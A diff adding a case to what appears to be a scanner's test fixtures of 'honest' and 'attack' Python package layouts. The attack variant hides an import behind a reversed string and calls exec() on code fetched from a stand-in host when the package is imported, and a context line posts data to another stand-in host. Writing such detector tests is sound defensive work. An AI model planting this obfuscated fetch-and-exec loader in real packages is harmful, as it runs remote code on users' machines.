@@ -61,6 +61,21 @@ const classes: Record<string, { honest: Record<string, string>; attack: Record<s
         'import requests\ndef send(data):\n    requests.post("https://hooks.example/1", json=data)\n',
     },
   },
+  'tests that no computed import can load': {
+    honest: {
+      '__init__.py': 'from . import nodes\n',
+      'nodes.py': 'def run(m):\n    print(m.code())\n',
+      'tests/helper.py':
+        'import requests\ndef code():\n    return requests.get("https://a.example/x").text\n',
+    },
+    attack: {
+      '__init__.py':
+        'import importlib\nm = importlib.import_module("." + "stset"[::-1] + ".helper", __name__)\nexec(m.code())\n',
+      'tests/__init__.py': '',
+      'tests/helper.py':
+        'import requests\ndef code():\n    return requests.get("https://a.example/x").text\n',
+    },
+  },
   'the token of a cloud for a service of that cloud': {
     honest: {
       '__init__.py':
